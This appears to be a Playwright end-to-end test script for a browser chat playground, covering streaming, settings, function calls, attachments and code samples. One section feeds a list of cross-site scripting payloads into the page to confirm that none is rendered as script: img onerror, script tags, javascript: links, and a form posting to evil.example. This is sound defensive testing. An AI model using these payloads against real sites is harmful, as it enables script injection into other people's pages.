// The playground in headless Chromium, with the stand-in as model. Writes the samples of "Get code" for
// samples.js, and screenshots if SCREENSHOTS names a folder.

import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

import { chromium } from "playwright-core";
import { BASE, KEY, check, done, expectIdle } from "./checks.js";

const { CHROMIUM: executablePath, SCREENSHOTS, SAMPLES, SERVER_HOPS, SERVER_OPEN } = process.env;
const browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
const problems = [];

/** Opens the page in a browser profile of its own. */
async function open(base, options = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, ...options });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const page = await context.newPage();
  page.on("pageerror", (error) => problems.push(String(error)));
  page.on("console", (message) => message.type() === "error" && problems.push(message.text()));
  page.on("dialog", (dialog) => {
    problems.push(`dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  await page.goto(`${base}/`);
  return page;
}

async function screenshot(page, name) {
  if (SCREENSHOTS) await page.screenshot({ path: join(SCREENSHOTS, `${name}.png`) });
}

const isIdle = () => document.querySelector("#stop").hidden;
const messages = (page) => page.locator("article");
const lastReply = (page) => page.locator("article.model").last();
const replyText = (page) => lastReply(page).locator(".parts").innerText();
const ended = (page, how) => page.locator(`article.model[data-end="${how}"]`).last().waitFor();

/** Writes a message, and waits for the end of the reply. */
async function say(page, text, end = "complete") {
  const before = await page.locator("article.model").count();
  await page.fill("#message", text);
  await page.press("#message", "Enter");
  await page.waitForFunction((count) => document.querySelectorAll("article.model").length > count, before);
  await page.waitForFunction(isIdle);
  await ended(page, end);
}

async function settle(page) {
  await page.waitForFunction(isIdle);
}

/** Sets a field of the settings. */
async function set(page, name, value) {
  if (!(await page.locator("#settings").isVisible())) await page.click("#settings-button");
  await page.fill(`#settings [name="${name}"]`, value);
}

async function resetSettings(page) {
  if (!(await page.locator("#settings").isVisible())) await page.click("#settings-button");
  await page.click("#reset-settings");
}

/** Returns the text that an action downloads. */
async function downloaded(page, action) {
  const [download] = await Promise.all([page.waitForEvent("download"), action()]);
  return readFileSync(await download.path(), "utf8");
}

// --- The API key

const page = await open(BASE);
await page.locator("#key-dialog[open]").waitFor();
await page.keyboard.press("Escape");
await say(page, "Hello?", "failed");
check((await lastReply(page).locator(".status").innerText()).includes("no API key"));
await page.locator("#key-dialog[open]").waitFor();
await page.fill("#key", KEY);
await page.press("#key", "Enter");
await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
await page.click("#rewind");
check((await messages(page).count()) === 0 && (await page.inputValue("#message")) === "Hello?");
check(problems.every((text) => text.includes("403")), problems);
problems.length = 0;
await page.fill("#message", "");

// --- Streaming and Markdown

const lengths = page.evaluate(
  () =>
    new Promise((resolve) => {
      const seen = new Set();
      new MutationObserver(() => {
        const reply = document.querySelector("article.model:last-of-type");
        seen.add(reply?.innerText.length);
        if (reply?.dataset.end === "complete") resolve(seen.size);
      }).observe(document.querySelector("#messages"), { attributes: true, childList: true, subtree: true });
    }),
);
await say(page, `How tall is Ben Nevis? ${"Tell me more. ".repeat(40)}`);
check((await lengths) > 3, "the reply is shown while it arrives", await lengths);
check((await replyText(page)).includes("(0 before)"), await replyText(page));

await say(page, "Show me markdown");
const reply = lastReply(page);
for (const selector of ["h1", "strong", "em", "del", "ol li", "input[checked]", "blockquote", "table"]) {
  check((await reply.locator(selector).count()) > 0, selector);
}
check((await reply.locator(".code").count()) === 3);
check((await reply.locator(".hljs-keyword").count()) > 0, "code is highlighted");
check((await reply.locator('a[href="https://example.com/docs"][rel~="noopener"]').count()) === 1);
await reply.locator(".code button").first().click();
const copied = await page.evaluate(() => navigator.clipboard.readText());
check(copied.startsWith("/// Returns the factorial") && copied.endsWith("}"), copied);
const meta = await reply.locator(".meta").innerText();
for (const fact of ["stand-in", "tokens in", "out", "to first token", "total", "tokens/s"]) {
  check(meta.includes(fact), fact, meta);
}
await say(page, "Please think about it");
check((await lastReply(page).locator("details.thought").count()) === 1);
check(!(await lastReply(page).locator("details.thought .markdown").isVisible()), "thoughts are folded");
await screenshot(page, "conversation");

// --- The text of the model never becomes script

const attacks = [
  `<img src=x onerror="alert(1)">`,
  `<script>alert(2)</script>`,
  `<svg onload=alert(3)></svg>`,
  `<iframe srcdoc="<script>alert(4)</script>"></iframe>`,
  `[click](javascript:alert(5)) [data](data:text/html,<script>alert(6)</script>)`,
  `<a href="javascript:alert(7)">x</a> <javascript:alert(8)>`,
  "```\"><img src=x onerror=alert(9)>\n<b onmouseover=alert(10)>\n```",
  "![x](https://example.com/a.png\"onerror=\"alert(11))",
  `<math><mi xlink:href="data:x,alert(12)"></mi></math><style>*{display:none}</style>`,
  `<form id=composer action=//evil.example><input name=body></form>`,
  `| a |\n| - |\n| <img src=x onerror=alert(13)> |`,
  "[a]: javascript:alert(14)\n[a]",
];
const harmless = (selector) => page.locator(`#messages ${selector}`).count();
async function checkHarmless(what) {
  for (const selector of [
    ...["img", "script", "iframe", "style", "form", "math", "svg:not(.icon)", "[style]", "[id]"],
    ...["[onerror]", "[onload]", "[onmouseover]", '[href^="javascript:" i]', '[href^="data:" i]'],
  ]) {
    check((await harmless(selector)) === 0, what, selector);
  }
}
for (const attack of attacks) {
  await say(page, attack);
  await checkHarmless(attack);
}
check((await replyText(page)).includes("You said"));
await page.click("#new-conversation");
const imported = attacks.map((text, index) => ({ role: index % 2 ? "model" : "user", parts: [{ text }] }));
await page.setInputFiles("#import", {
  name: "attack.json",
  mimeType: "application/json",
  buffer: Buffer.from(JSON.stringify(imported)),
});
await page.waitForFunction((count) => document.querySelectorAll("article").length === count, attacks.length);
await checkHarmless("an imported conversation");
const refused = await page.evaluate(() => {
  try {
    document.body.innerHTML += "<b>markup</b>";
    return false;
  } catch (error) {
    return error instanceof TypeError;
  }
});
check(refused, "trusted types refuse markup from strings");
check(problems.every((text) => text.includes("TrustedHTML")), problems);
problems.length = 0;

// --- Stop, edit, regenerate, rewind

await page.click("#new-conversation");
check((await messages(page).count()) === 0);
await page.fill("#message", "Count forever.");
await page.press("#message", "Enter");
await page.waitForFunction(() => document.querySelector("article.model")?.innerText.length > 40);
await page.click("#stop");
await ended(page, "stopped");
await expectIdle();
check((await replyText(page)).startsWith("on and on"), "a stopped reply keeps its part");
await say(page, "Second");
check((await replyText(page)).includes("Second (2 before)"), await replyText(page));
await say(page, "Third");
check((await replyText(page)).includes("(4 before)"));
await messages(page).nth(2).hover();
await messages(page).nth(2).locator('[title="Edit and resend"]').click();
await page.fill(".editor", "Another second");
await page.press(".editor", "Enter");
await settle(page);
check((await messages(page).count()) === 4, "editing removes what came after");
check((await replyText(page)).includes("Another second (2 before)"), await replyText(page));
await lastReply(page).locator('[title="Regenerate"]').click();
await settle(page);
check((await messages(page).count()) === 4 && (await replyText(page)).includes("(2 before)"));
await page.click("#rewind");
check((await messages(page).count()) === 2 && (await page.inputValue("#message")) === "Another second");
await page.fill("#message", "");

// --- Keyboard

await page.focus("#message");
await page.keyboard.press("ArrowUp");
check((await page.locator(".editor").inputValue()) === "Count forever.", "↑ edits the last message");
await page.keyboard.press("Escape");
check((await page.locator(".editor").count()) === 0);
await page.fill("#message", "Count forever, with keys.");
await page.press("#message", "Shift+Enter");
check((await page.inputValue("#message")).endsWith("\n"), "Shift+Enter is a new line");
await page.press("#message", "Enter");
await page.waitForFunction(() => !document.querySelector("#stop").hidden);
await page.keyboard.press("Escape");
await ended(page, "stopped");
await expectIdle();
await page.locator("#title").click();
await page.keyboard.press("?");
check(await page.locator("#help-dialog").isVisible());
await page.keyboard.press("Escape");
await page.keyboard.press("Control+Shift+O");
check((await messages(page).count()) === 0, "Ctrl+Shift+O starts a conversation");

// --- Several conversations: title, rename, switch, export, import, delete, reload

await say(page, "Which conversation is this?");
const items = page.locator("#conversations li");
check((await items.first().innerText()).includes("Which conversation is this?"));
await items.first().hover();
await items.first().locator('[title="Rename"]').click();
await page.keyboard.type("Renamed");
await page.keyboard.press("Enter");
check((await page.locator("#title").innerText()) === "Renamed");
const count = await items.count();
check(count === 4, count);
await page.reload();
await page.waitForFunction(() => document.querySelectorAll("article").length === 2);
check((await page.locator("#title").innerText()) === "Renamed", "conversations survive a reload");
check((await items.count()) === count);
await items.nth(1).locator(".conversation").click();
check((await page.locator("#title").innerText()) !== "Renamed");
const renamed = items.filter({ hasText: "Renamed" });
await renamed.hover();
const exported = await downloaded(page, () => renamed.locator('[title="Export as JSON"]').click());
const contents = JSON.parse(exported);
check(Array.isArray(contents) && contents.map(({ role }) => role).join() === "user,model", contents);
check(contents[0].parts[0].text === "Which conversation is this?");
check(contents.every((content) => Object.keys(content).sort().join() === "parts,role"), contents);
const file = (name, text) => ({ name, mimeType: "application/json", buffer: Buffer.from(text) });
await page.setInputFiles("#import", file("again.json", JSON.stringify({ contents })));
await page.waitForFunction(() => document.querySelector("#title").textContent === "again");
check((await messages(page).count()) === 2);
await say(page, "And now?");
check((await replyText(page)).includes("(2 before)"), "an imported conversation continues");
for (const [text, expected] of [
  ["{", "not JSON"],
  [`{"a": 1}`, "no contents"],
  [`[{"role": "user"}]`, "contents[0] has no parts"],
  [`[{"role": "system", "parts": [{"text": "x"}]}]`, "`system`"],
]) {
  await page.setInputFiles("#import", file("bad.json", text));
  await page.waitForFunction(
    (part) => document.querySelector("#composer-problem").textContent.includes(part),
    expected,
  );
  check(true);
}
await renamed.hover();
const left = (await items.count()) - 1;
await renamed.locator('[title="Delete"]').click();
await renamed.or(items.filter({ hasText: "Delete this?" })).locator(".danger").click();
// The question hides the title, so the test waits for the number of items.
await page.waitForFunction((left) => document.querySelectorAll("#conversations li").length === left, left);
await page.reload();
await page.waitForFunction(() => document.querySelector("#title").textContent === "again");
check(!(await page.locator("#conversations").innerText()).includes("Renamed"), "a deletion survives a reload");
await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
check((await page.locator("#model").inputValue()) === "stand-in", "the model picker lists the models");

// --- Settings

await page.click("#new-conversation");
await set(page, "systemInstruction", "Be brief.");
await say(page, "Hello");
check((await replyText(page)).startsWith("Be brief. You said: Hello"), await replyText(page));
await set(page, "temperature", "7");
check((await page.locator('label:has([name="temperature"]) .problem').innerText()).includes("at most 2"));
await page.fill("#message", "Not sent");
await page.press("#message", "Enter");
check((await page.locator("#composer-problem").innerText()).includes("Temperature"));
check((await page.inputValue("#message")) === "Not sent", "a message that cannot be sent is kept");
await set(page, "temperature", "0.5");
await set(page, "topP", "0.9");
await set(page, "topK", "40");
await set(page, "seed", "2147483647");
await set(page, "maxOutputTokens", "3");
await set(page, "stopSequences", "END\nSTOP");
await page.focus("#message");
await page.press("#message", "Enter");
await settle(page);
await page.locator("article.model .status", { hasText: "maximum length" }).waitFor();
await lastReply(page).locator('[title^="Raw"]').click();
const raw = async (tab) => {
  await page.click(`#raw-dialog [role=tab]:has-text("${tab}")`);
  return page.locator("#raw-dialog code").innerText();
};
const [path, sent] = (await raw("Request")).split("\n\n");
check(path === "POST /v1beta/models/stand-in:streamGenerateContent?alt=sse", path);
const { generationConfig, systemInstruction } = JSON.parse(sent);
check(
  JSON.stringify(generationConfig) ===
    `{"temperature":0.5,"topP":0.9,"topK":40,"seed":2147483647,"maxOutputTokens":3,"stopSequences":["END","STOP"]}`,
  generationConfig,
);
check(systemInstruction.parts[0].text === "Be brief.");
const chunks = (await raw("Response")).split("\n\n").map((text) => JSON.parse(text));
check(chunks.length === 3 && chunks.at(-1).candidates[0].finishReason === "MAX_TOKENS", chunks);
await screenshot(page, "raw");
await page.keyboard.press("Escape");
await resetSettings(page);
await set(page, "responseSchema", "{ no JSON");
check((await page.locator('label:has([name="responseSchema"]) .problem').innerText()).includes("not valid JSON"));
await set(
  page,
  "responseSchema",
  `{"type": "object", "properties": {"name": {"type": "string", "enum": ["Ben Nevis"]}}}`,
);
await say(page, "A mountain");
check((await replyText(page)) === `{"name":"Ben Nevis"}`, await replyText(page));
await resetSettings(page);

// --- Function calls, answered by hand

const declaration = {
  name: "get_height",
  description: "The height of a mountain.",
  parameters: { type: "OBJECT", properties: { name: { type: "STRING", enum: ["Ben Nevis"] } } },
};
await set(page, "functions", JSON.stringify([declaration]));
await say(page, "Please use get_height");
const card = lastReply(page).locator(".card");
check((await card.innerText()).includes("get_height") && (await card.innerText()).includes("Ben Nevis"));
await screenshot(page, "call");
await page.fill("#message", "Too early");
await page.press("#message", "Enter");
check((await page.locator("#composer-problem").innerText()).includes("answer the function call"));
await page.fill("#message", "");
await page.fill(".call-form textarea", "{ no JSON");
await page.click(".call-form button");
check((await page.locator(".call-form .problem").innerText()).includes("not valid JSON"));
await page.fill(".call-form textarea", `{"metres": 1345}`);
await page.click(".call-form button");
await settle(page);
check((await replyText(page)) === `The function says {"metres":1345}`, await replyText(page));
const turns = await messages(page).count();
await page.click("#rewind");
check((await messages(page).count()) === turns - 4, "rewind removes the whole turn with its call");
await page.fill("#message", "");

// --- Attachments

const picture = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
await page.setInputFiles("#files", { name: "dot.png", mimeType: "image/png", buffer: picture });
await page.locator("#attachments img").waitFor();
await page.setInputFiles("#files", { name: "main.rs", mimeType: "", buffer: Buffer.from("fn main() {}") });
await page.locator("#attachments .chip", { hasText: "main.rs" }).waitFor();
const transfer = (name, type) =>
  page.evaluateHandle(
    ([fileName, mimeType]) => {
      const data = new DataTransfer();
      data.items.add(new File(["hello"], fileName, { type: mimeType }));
      return data;
    },
    [name, type],
  );
await page.dispatchEvent("#main", "drop", { dataTransfer: await transfer("dropped.txt", "text/plain") });
await page.locator("#attachments .chip", { hasText: "dropped.txt" }).waitFor();
await page.evaluate((data) => {
  const event = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true });
  document.querySelector("#message").dispatchEvent(event);
}, await transfer("pasted.txt", "text/plain"));
await page.locator("#attachments .chip", { hasText: "pasted.txt" }).waitFor();
await page.locator("#attachments li", { hasText: "dropped.txt" }).locator("button").click();
check((await page.locator("#attachments li").count()) === 3);
await say(page, "What is this?");
check((await page.locator("#attachments li").count()) === 0);
const answer = await replyText(page);
check(answer.includes("with image/png with text/plain with text/plain"), answer);
check((await page.locator("article.user img.picture").count()) === 1);
await page.setInputFiles("#files", {
  name: "huge.bin",
  mimeType: "application/octet-stream",
  buffer: Buffer.alloc(15 * 1024 * 1024),
});
await page.waitForFunction(() =>
  document.querySelector("#composer-problem").textContent.includes("huge.bin is too large"),
);
check((await page.locator("#attachments li").count()) === 0);

// --- A reload in the middle of a reply

await page.click("#new-conversation");
await resetSettings(page);
await page.fill("#message", "Count forever.");
await page.press("#message", "Enter");
await page.waitForFunction(() => document.querySelector("article.model")?.innerText.length > 20);
await page.waitForTimeout(1200); // a growing reply is saved each second
await page.reload();
await ended(page, "stopped");
await expectIdle();
check((await replyText(page)).includes("on and"), "the part before the reload is kept");
check(!(await lastReply(page).locator(".meta").innerText()).includes("NaN"), "times that are not known");

// --- Two tabs

const second = await page.context().newPage();
await second.goto(`${BASE}/`);
// The key is stored per tab. This tab has none, and shows the replies that the other one receives.
await second.locator("#key-dialog[open]").waitFor();
await second.keyboard.press("Escape");
await second.waitForFunction(() => document.querySelectorAll("article").length === 2);
await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
await say(page, "From the first tab");
await second.waitForFunction(() => document.querySelectorAll("article").length === 4);
check((await second.locator("article.model").last().innerText()).includes("From the first tab"));

// While the first tab receives a reply, the second one keeps its editor, its typed settings and its scroll position.
await second.setViewportSize({ width: 1280, height: 400 });
await page.fill("#message", "Count forever.");
await page.press("#message", "Enter");
await second.waitForFunction(() => document.querySelectorAll("article").length === 6);
await second.locator("article.user").first().hover();
await second.locator('article.user [title="Edit and resend"]').first().click();
await second.fill(".editor", "In the middle of an edit");
await set(second, "systemInstruction", "Typed in the second tab");
await second.evaluate(() => (document.querySelector("#messages").parentElement.scrollTop = 0));
const seen = () => second.locator("article.model").last().innerText();
for (let growths = 0; growths < 2; growths += 1) {
  const { length } = await seen();
  await second.waitForFunction(
    (before) => [...document.querySelectorAll("article.model")].at(-1).innerText.length > before,
    length,
  );
}
check((await second.inputValue(".editor")) === "In the middle of an edit");
check((await second.inputValue('#settings [name="systemInstruction"]')) === "Typed in the second tab");
check((await second.evaluate(() => document.querySelector("#messages").parentElement.scrollTop)) === 0);
await page.click("#stop");
await settle(page);
check(
  (await page.inputValue('#settings [name="systemInstruction"]')) === "Typed in the second tab",
  "the first tab adopts the settings of the second",
);
await second.close();
await resetSettings(page);

// --- Themes, and a phone

const background = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
const light = await background();
await page.emulateMedia({ colorScheme: "dark" });
const dark = await background();
check(light !== dark, light, dark);
await screenshot(page, "dark");
await page.selectOption("#theme", "light");
check((await background()) === light);
await page.reload();
await page.waitForFunction(() => document.documentElement.dataset.theme === "light");
check((await background()) === light, "the theme survives a reload");
check(problems.length === 0, problems);

const phone = await open(SERVER_OPEN, { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });
await phone.waitForFunction(() => document.querySelector("#model").options.length > 0);
await say(phone, "Show me markdown");
const overflow = await phone.evaluate(() => document.documentElement.scrollWidth - innerWidth);
check(overflow <= 0, "nothing is wider than a phone", overflow);
check(!(await phone.locator("#sidebar").isVisible()));
await phone.click("#menu-button");
await phone.locator("#sidebar").waitFor({ state: "visible" });
await phone.waitForFunction(() => document.querySelector("#sidebar").getBoundingClientRect().x === 0);
await screenshot(phone, "phone-menu");
await phone.click("#new-conversation");
await phone.locator("#sidebar").waitFor({ state: "hidden" });
await phone.click("#settings-button");
check(await phone.locator("#settings").isVisible());
await screenshot(phone, "phone-settings");
await phone.click("#close-settings");
check(!(await phone.locator("#settings").isVisible()));

// --- Get code

const EXTENSIONS = { curl: "sh", Rust: "rs", Python: "py", JavaScript: "mjs" };

/** Writes the samples of the current conversation. */
async function writeSamples(view, name) {
  mkdirSync(SAMPLES, { recursive: true });
  await view.click("#code-button");
  for (const [language, extension] of Object.entries(EXTENSIONS)) {
    await view.click(`#code-dialog [role=tab]:has-text("${language}")`);
    await view.locator("#code-dialog .code-head button").click();
    const code = await view.evaluate(() => navigator.clipboard.readText());
    check(code.length > 100 && !code.includes(KEY), "a sample without the key", language);
    writeFileSync(join(SAMPLES, `${name}.${extension}`), code);
  }
  await screenshot(view, `code-${name}`);
  await view.keyboard.press("Escape");
}

// --- Replies in several requests

const hopping = await open(SERVER_HOPS);
await hopping.locator("#key-dialog[open]").waitFor();
await hopping.fill("#key", KEY);
await hopping.press("#key", "Enter");
await hopping.waitForFunction(() => document.querySelector("#model").options.length > 0);
await say(hopping, "one two three four five six seven eight nine ten");
check((await replyText(hopping)).includes("nine ten (0 before)"), await replyText(hopping));
const facts = await lastReply(hopping).innerText();
check(facts.includes("14 out"), "the tokens of all requests", facts);
// Some services send the token counts after the end of a request.
await hopping.route("**/*:streamGenerateContent*", (route) => {
  const isLast = route.request().postDataJSON().continuationToken === "a";
  const candidate = isLast
    ? { content: { parts: [{ text: "a time" }] }, finishReason: "STOP" }
    : { content: { parts: [{ text: "Once upon " }] }, finishReason: "CONTINUATION", continuationToken: "a" };
  const chunks = [{ candidates: [candidate] }, { usageMetadata: { candidatesTokenCount: 2 } }];
  const body = chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\r\n\r\n`).join("");
  route.fulfill({ contentType: "text/event-stream", body });
});
await say(hopping, "Tell me a story");
check((await replyText(hopping)).includes("Once upon a time"), await replyText(hopping));
problems.length = 0; // the page asked without a key first

const desktop = await open(SERVER_OPEN);
await desktop.waitForFunction(() => document.querySelector("#model").options.length > 0);
await writeSamples(desktop, "empty");
await say(desktop, "Hello");
await say(desktop, "How are you?");
await writeSamples(desktop, "simple");

await page.waitForFunction(() => document.querySelector("#model").options.length > 0);
await page.click("#new-conversation");
await set(page, "systemInstruction", 'Say "yes".\n\tC:\\new');
await set(page, "temperature", "0.25");
await set(page, "seed", "2147483647");
await set(page, "stopSequences", 'END"#\n\\');
await say(page, "Quotes \" ' ` \"# and \\ ${x} {y} %s $HOME\nJSON\nEOF\u0001\u202e\u2028 ¿Qué? 🦀");
await page.setInputFiles("#files", { name: "dot.png", mimeType: "image/png", buffer: picture });
await page.locator("#attachments img").waitFor();
await say(page, 'And "this"?');
await writeSamples(page, "special");

await page.click("#new-conversation");
await resetSettings(page);
await set(page, "functions", JSON.stringify([declaration]));
await page.selectOption('[name="callingMode"]', "NONE");
await say(page, "Do not use get_height");
await page.selectOption('[name="callingMode"]', "AUTO");
await say(page, "Please use get_height");
await writeSamples(page, "call");
await page.fill(".call-form textarea", `{"metres": 1345}`);
await page.click(".call-form button");
await settle(page);
await writeSamples(page, "response");

check(problems.length === 0, problems);
await browser.close();
done("the playground, in Chromium");
